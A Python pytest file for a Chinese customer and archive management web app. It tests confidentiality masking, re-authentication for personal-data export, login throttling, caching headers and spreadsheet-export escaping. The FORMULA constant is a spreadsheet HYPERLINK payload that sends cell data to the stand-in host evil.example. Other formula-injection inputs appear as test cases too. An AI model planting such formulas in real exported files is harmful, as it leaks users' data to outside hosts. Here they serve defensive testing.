"""Issue 11: what is hidden stays hidden on every derived path (one finding, one test), and login abuse."""
import csv
import datetime
import io
import json
import re

import argon2
import openpyxl
import pytest

import models
import policies
from conftest import PASSWORD
from conftest import csrf_token
from conftest import login
from conftest import make_user
from factories import acting_as
from factories import make
from policies import approvals
from views import fields as vf

ID_NUMBER = "330106198807154321"
TOP_FILE = "鸿项字第003号"
SECRET_FILE = "鸿借字第007号"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def messages(response):
    return response.get_data(as_text=True)


@pytest.fixture
def world(app):
    """A normal customer of the east sales department holding a top-secret and a secret file, a top-secret customer."""
    east = make(models.Department, name="华东销售部")
    sales = make_user("w_sales", roles=("sales",), department=east, clearance="normal")
    clerk = make_user("w_clerk", roles=("clerk",), clearance="normal")
    plain = make(models.Customer, name="台州普通建材有限公司", department=east, owner=sales,
                 consent_at=models.utcnow(), id_number=ID_NUMBER)
    top = make(models.Customer, name="绝密客户鼎盛集团", confidentiality="top_secret", department=east)
    top_file = make(models.ArchiveFile, number=TOP_FILE, title="鸿项绝密项目档案", customer=plain,
                    confidentiality="top_secret")
    secret_file = make(models.ArchiveFile, number=SECRET_FILE, title="机密附件", customer=plain,
                       confidentiality="secret")
    return dict(east=east, sales=sales, clerk=clerk, plain=plain, top=top, top_file=top_file,
                secret_file=secret_file)


def export_personal(client, customer, fmt="json", **extra):
    token = csrf_token(client, f"/admin/customer/details/?id={customer.id}")
    return client.post(f"/admin/customer/personal-data/{fmt}/", data=dict(extra, id=customer.id, csrf_token=token),
                       follow_redirects=True)


# ---------------------------------------------------------------- 1. personal-data export leaked classified files
def test_personal_data_export_leaves_out_files_the_user_may_not_see(world, client):
    login(client, "w_sales")
    body = messages(export_personal(client, world["plain"]))
    data = json.loads(body)
    assert data["客户"][0]["客户名称"] == "台州普通建材有限公司"
    assert TOP_FILE not in body and SECRET_FILE not in body and "鸿项绝密项目档案" not in body


# ---------------------------------------------------------------- 2. personal-data export without the reveal step
def test_personal_data_export_as_sales_without_a_recent_login_reveals_nothing(world, client):
    login(client, "w_sales")
    with client.session_transaction() as sess:
        sess["login_at"] = (models.utcnow() - datetime.timedelta(hours=2)).isoformat()
    for fmt in ("json", "xlsx"):
        refused = export_personal(client, world["plain"], fmt)
        assert refused.mimetype == "text/html"
        assert ID_NUMBER not in messages(refused) and "重新输入登录密码" in messages(refused)
    assert not models.AuditLog.select().where(models.AuditLog.action.in_(("view_sensitive", "export"))).exists()
    wrong = export_personal(client, world["plain"], password="not-my-password")
    assert ID_NUMBER not in messages(wrong)
    allowed = export_personal(client, world["plain"], password=PASSWORD)
    assert json.loads(messages(allowed))["客户"][0]["身份证号"] == ID_NUMBER
    entry = models.AuditLog.get(models.AuditLog.action == "view_sensitive")
    assert entry.record_id == str(world["plain"].id) and "个人数据导出" in entry.changes


# ---------------------------------------------------------------- 3. bulk approve told anyone any summary
def test_bulk_approve_tells_nobody_about_approvals_that_are_not_theirs(world, client):
    gm = make_user("w_gm", roles=("gm",), clearance="top_secret", display_name="李明")
    with acting_as(world["sales"]):
        asked = approvals.require(world["top"], "CUS-2", ["gm"], summary="新建客户档案 绝密客户鼎盛集团")[0]
        pending = approvals.require(world["plain"], "CTR-1", ["gm"], summary="合同 台州普通建材有限公司")[0]
    approvals.decide(asked.id, gm, True)
    login(client, "w_clerk")
    token = csrf_token(client, "/admin/approvals/")
    page = messages(client.post("/admin/approvals/bulk/", data={"ids": [asked.id, pending.id, 99999],
                                                                 "csrf_token": token}, follow_redirects=True))
    assert "鼎盛" not in page and "李明" not in page and "台州普通" not in page and "已批准" not in page
    assert page.count("审批记录不存在或您无权处理") == 3
    decided = client.post("/admin/approvals/decide/", data={"id": asked.id, "decision": "approve",
                                                            "csrf_token": token}, follow_redirects=True)
    assert "李明" not in messages(decided) and "审批记录不存在或您无权处理" in messages(decided)


# ---------------------------------------------------------------- 4. inbox showed secret names to uncleared approvers
def test_inbox_masks_what_the_approver_may_not_see(world, app):
    finance = make_user("w_finance", roles=("finance",), clearance="normal")
    manager = make_user("w_manager", roles=("manager",), department=world["east"], clearance="secret")
    move_out = make(models.MoveOut, tenant=world["top"], unit="A座 1201")
    contract = make(models.Contract, customer=world["top"], number="HT-TOP-1")
    with acting_as(world["sales"]):
        sign = approvals.require(move_out, "MOV-1", ["finance"], summary="绝密客户鼎盛集团 迁出 A座 1201")[0]
        asked = approvals.require(contract, "CTR-1", ["manager"], department=world["east"].id,
                                  summary="合同 HT-TOP-1 绝密客户鼎盛集团")[0]
    for user, approval in ((finance, sign), (manager, asked)):
        client = app.test_client()
        login(client, user.username)
        page = messages(client.get("/admin/approvals/"))
        row = page.split(f'id="approval-{approval.id}"')[1].split("</tr>")[0]
        assert "鼎盛" not in page and "涉密记录" in row and "details/?id=" not in row
        token = csrf_token(client, "/admin/approvals/")
        done = client.post("/admin/approvals/decide/", data={"id": approval.id, "decision": "approve",
                                                             "csrf_token": token}, follow_redirects=True)
        assert "鼎盛" not in messages(done) and "已批准" in messages(done)
    # A cleared approver reads the summary.
    with acting_as(world["sales"]):
        again = approvals.require(contract, "CTR-1", ["gm"], summary="合同 HT-TOP-1 绝密客户鼎盛集团")[0]
    gm = make_user("w_gm_top", roles=("gm",), clearance="top_secret")
    client = app.test_client()
    login(client, gm.username)
    row = messages(client.get("/admin/approvals/")).split(f'id="approval-{again.id}"')[1].split("</tr>")[0]
    assert "绝密客户鼎盛集团" in row and f"/admin/contract/details/?id={contract.id}" in row


# ---------------------------------------------------------------- 5. formula injection in related columns
def test_every_export_cell_is_formula_safe(world, admin_client):
    customer = make(models.Customer, name=FORMULA, industry=" =1+1", address="＝SUM(A1:A9)", website="＠cmd")
    make(models.Contact, customer=customer, name="-2+3", title="\t=1", phone=" =1+1", mobile="＝SUM(A1:A9)",
         email="ok@example.cn")
    body = admin_client.get("/admin/contact/export/csv/").get_data(as_text=True).lstrip("\ufeff")
    header, *rows = list(csv.reader(io.StringIO(body)))
    row = next(r for r in rows if any("HYPERLINK" in c for c in r))
    assert row[header.index("客户")] == "'" + FORMULA
    assert row[header.index("姓名")] == "'-2+3" and row[header.index("职务")].startswith("'")
    sheet = openpyxl.load_workbook(io.BytesIO(admin_client.get("/admin/contact/export/xlsx/").data)).active
    cells = [c for line in sheet.iter_rows() for c in line]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + FORMULA in [c.value for c in cells]
    assert row[header.index("电话(含区号)")] == "' =1+1" and row[header.index("手机")] == "'＝SUM(A1:A9)"
    book = openpyxl.load_workbook(io.BytesIO(export_personal(admin_client, customer, "xlsx").data))
    cells = [c for ws in book.worksheets for line in ws.iter_rows() for c in line]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + FORMULA in [c.value for c in cells] and "' =1+1" in [c.value for c in cells]


@pytest.mark.parametrize("text,safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"), ("  =1", "'  =1"),
    ("＝1", "'＝1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"), ("\u3000=1", "'\u3000=1"),
    ("\t1", "'\t1"), ("\r1", "'\r1"), ("a=1", "a=1"), ("台州", "台州"), ("", ""), ("  ", "  "),
])
def test_formula_safe_boundaries(text, safe):
    assert vf.formula_safe(text) == safe


# ---------------------------------------------------------------- 6. records two levels below a hidden one
def test_grandchildren_of_a_hidden_customer_or_file_are_hidden(world, client):
    complaint = make(models.Complaint, customer=world["top"], complainant="鼎盛投诉人王五", content="产品质量问题")
    solution = make(models.Solution, complaint=complaint, proposal="赔偿鼎盛 200 元", compensation_amount=200)
    investigation = make(models.Investigation, complaint=complaint, cause="鼎盛批次缺陷")
    update = make(models.ComplaintUpdate, complaint=complaint, note="已联系鼎盛")
    penalty = make(models.Penalty, user=world["clerk"], rule="ARC-9", amount=50, on=datetime.date(2026, 3, 2),
                   note=f"{TOP_FILE} 应于 2026-03-01 前移交,逾期", file=world["top_file"])
    login(client, "w_clerk")
    for endpoint, record in (("solution", solution), ("investigation", investigation),
                             ("complaintupdate", update), ("penalty", penalty)):
        details = messages(client.get(f"/admin/{endpoint}/details/?id={record.id}", follow_redirects=True))
        assert "记录不存在" in details and "鼎盛" not in details and TOP_FILE not in details, endpoint
        listing = messages(client.get(f"/admin/{endpoint}/"))
        assert "鼎盛" not in listing and TOP_FILE not in listing, endpoint


def test_penalties_of_a_late_handover_carry_its_file_and_hide_with_it(world, client):
    archivist = make_user("w_archivist", roles=("archivist",), clearance="top_secret")
    make(models.Handover, file=world["top_file"], handed_by=archivist, event_on=datetime.date(2026, 1, 5))
    fines = list(models.Penalty.select().where(models.Penalty.file == world["top_file"]))
    assert fines and all(TOP_FILE in p.note for p in fines)
    login(client, "w_clerk")
    assert TOP_FILE not in messages(client.get("/admin/penalty/"))


# ---------------------------------------------------------------- 7. login abuse
def attempt(client, username, password, addr):
    return client.post("/login", data={"username": username, "password": password,
                                       "csrf_token": csrf_token(client)},
                       environ_base={"REMOTE_ADDR": addr})


def test_five_bad_passwords_slow_the_address_but_do_not_lock_the_account(app):
    make_user("boss", roles=("admin",))
    attacker = app.test_client()
    for _ in range(5):
        assert "用户名或密码不正确" in messages(attempt(attacker, "boss", "wrong-guess", "10.0.0.66"))
    owner = app.test_client()
    assert attempt(owner, "boss", PASSWORD, "10.0.0.8").status_code == 302
    slowed = attempt(attacker, "boss", PASSWORD, "10.0.0.66")
    assert slowed.status_code == 200 and "秒后再试" in messages(slowed)
    assert attacker.get("/admin/").status_code == 302
    row = models.LoginThrottle.get(models.LoginThrottle.key == "ip:10.0.0.66")
    assert row.failures == 5 and row.blocked_until > models.utcnow()
    first_wait = (row.blocked_until - row.last_failure_at).total_seconds()
    # The delay grows with each further failure once it has passed.
    models.LoginThrottle.update(blocked_until=models.utcnow()).where(models.LoginThrottle.id == row.id).execute()
    attempt(attacker, "boss", "wrong-again", "10.0.0.66")
    row = models.LoginThrottle.get_by_id(row.id)
    assert (row.blocked_until - row.last_failure_at).total_seconds() == 2 * first_wait
    assert models.User.get(models.User.username == "boss").locked_until is None


def test_four_bad_passwords_cost_nothing(app, client):
    make_user("almost4")
    for _ in range(4):
        attempt(client, "almost4", "wrong-guess", "10.0.0.9")
    assert attempt(client, "almost4", PASSWORD, "10.0.0.9").status_code == 302


def test_an_account_attacked_from_many_addresses_waits_but_its_own_browser_does_not(app):
    make_user("target", roles=("admin",))
    owner = app.test_client()
    assert attempt(owner, "target", PASSWORD, "10.1.0.1").status_code == 302
    owner.post("/logout", data={"csrf_token": csrf_token(owner, "/admin/")})
    for n in range(10):
        attempt(app.test_client(), "target", "wrong-guess", f"10.2.0.{n}")
    stranger = app.test_client()
    assert "秒后再试" in messages(attempt(stranger, "target", PASSWORD, "10.3.0.1"))
    # The browser that logged in before carries the known-device cookie and is not kept out.
    assert attempt(owner, "target", PASSWORD, "10.1.0.1").status_code == 302


def test_unknown_and_known_users_get_the_same_answer_and_throttling(app):
    make_user("realuser")
    answers = []
    for name, addr in (("realuser", "10.4.0.1"), ("nosuchuser", "10.4.0.2")):
        client = app.test_client()
        for _ in range(5):
            first = messages(attempt(client, name, "wrong-guess", addr))
        answers.append((re.findall(r"用户名或密码不正确[^<]*", first),
                        re.findall(r"请 \d+ 秒后再试", messages(attempt(client, name, "x", addr)))))
    assert answers[0] == answers[1] and answers[0][0] and answers[0][1]


class CountingHasher(argon2.PasswordHasher):
    """A real argon2 hasher that counts its verifications (an answer's time is one verification)."""

    verified = 0

    def verify(self, hash, password):  # noqa: A002 - argon2's own parameter name
        CountingHasher.verified += 1
        return super().verify(hash, password)


def test_unknown_users_cost_one_argon2_verification_like_known_ones(app):
    saved = models.PASSWORD_HASHER
    models.PASSWORD_HASHER = CountingHasher(time_cost=1, memory_cost=1024, parallelism=1)
    try:
        make_user("timed")
        counts = {}
        for name, addr in (("timed", "10.5.0.1"), ("ghost", "10.6.0.1"), ("timed", "10.5.0.2")):
            client = app.test_client()
            csrf_token(client)
            CountingHasher.verified = 0
            attempt(client, name, "wrong-guess", addr)
            counts.setdefault(name, set()).add(CountingHasher.verified)
        assert counts == {"timed": {1}, "ghost": {1}}
    finally:
        models.PASSWORD_HASHER = saved


def test_password_reentry_is_throttled_on_change_password_and_reveal(world, app):
    client = app.test_client()
    login(client, "w_sales")
    for _ in range(5):
        token = csrf_token(client, "/password")
        client.post("/password", data={"current": "wrong-guess", "new": "Brand-new-pass-77",
                                       "confirm": "Brand-new-pass-77", "csrf_token": token})
    token = csrf_token(client, "/password")
    page = client.post("/password", data={"current": PASSWORD, "new": "Brand-new-pass-77",
                                          "confirm": "Brand-new-pass-77", "csrf_token": token})
    assert "秒后再试" in messages(page)
    assert models.User.get_by_id(world["sales"].id).check_password(PASSWORD)
    with client.session_transaction() as sess:
        sess["login_at"] = (models.utcnow() - datetime.timedelta(hours=2)).isoformat()
    token = csrf_token(client, f"/admin/customer/details/?id={world['plain'].id}")
    reveal = client.post("/admin/customer/reveal/", data={"id": world["plain"].id, "field": "id_number",
                                                          "password": PASSWORD, "csrf_token": token},
                         follow_redirects=True)
    assert ID_NUMBER not in messages(reveal) and "秒后再试" in messages(reveal)


# ---------------------------------------------------------------- 8. catalogue counts
def test_catalogue_counts_only_rows_the_viewer_may_see(world, client):
    for n in range(2):
        make(models.Customer, name=f"待确认普通客户{n}", approved_by=None)
    make(models.Customer, name="待确认绝密客户", approved_by=None, confidentiality="top_secret")
    login(client, "w_clerk")
    page = messages(client.get("/admin/policies/"))
    row = re.search(r'<tr id="rule-CUS-2".*?</tr>', page, re.S).group(0)
    count = re.search(r'<a href="/admin/customer/">客户</a>\s*<span class="badge badge-\w+">(\d+)</span>', row)
    assert int(count.group(1)) == 2


# ---------------------------------------------------------------- 9. caching and request size
def test_authenticated_pages_are_never_cached(world, client):
    assert "no-store" not in client.get("/login").headers.get("Cache-Control", "")
    login(client, "w_sales")
    for url in ("/admin/", f"/admin/customer/details/?id={world['plain'].id}", "/admin/approvals/"):
        assert client.get(url).headers["Cache-Control"] == "no-store", url
    token = csrf_token(client, f"/admin/customer/details/?id={world['plain'].id}")
    revealed = client.post("/admin/customer/reveal/", data={"id": world["plain"].id, "field": "id_number",
                                                            "csrf_token": token})
    assert ID_NUMBER in messages(revealed) and revealed.headers["Cache-Control"] == "no-store"


def test_oversized_requests_are_refused_in_chinese(world, client):
    login(client, "w_sales")
    token = csrf_token(client, "/admin/customer/new/")
    before = models.Customer.select().count()
    response = client.post("/admin/customer/new/", data={"name": "x" * (12 * 1024 * 1024), "csrf_token": token})
    assert response.status_code == 413 and "提交的内容过大" in messages(response)
    upload = client.post("/admin/customer/new/", data={"csrf_token": token, "name": "附件客户",
                                                       "file": (io.BytesIO(b"0" * (17 * 1024 * 1024)), "big.bin")},
                         content_type="multipart/form-data")
    assert upload.status_code == 413 and "提交的内容过大" in messages(upload)
    assert models.Customer.select().count() == before


def test_penalties_stored_before_the_file_link_get_it_at_start(world):
    handover = make(models.Handover, file=world["top_file"], event_on=datetime.date(2026, 1, 5),
                    handed_on=datetime.date(2026, 1, 6))
    old = make(models.Penalty, user=world["clerk"], rule="ARC-9", amount=50, on=datetime.date(2026, 1, 7),
               source=f"Handover#{handover.id}", note=f"{TOP_FILE} 逾期")
    manual = make(models.Penalty, user=world["clerk"], rule="ATT-1", amount=5, on=datetime.date(2026, 1, 7))
    models.Penalty.update(file=None).where(models.Penalty.id == old.id).execute()
    assert policies.archives.link_penalty_files() == 1
    assert models.Penalty.get_by_id(old.id).file_id == world["top_file"].id
    assert models.Penalty.get_by_id(manual.id).file_id is None
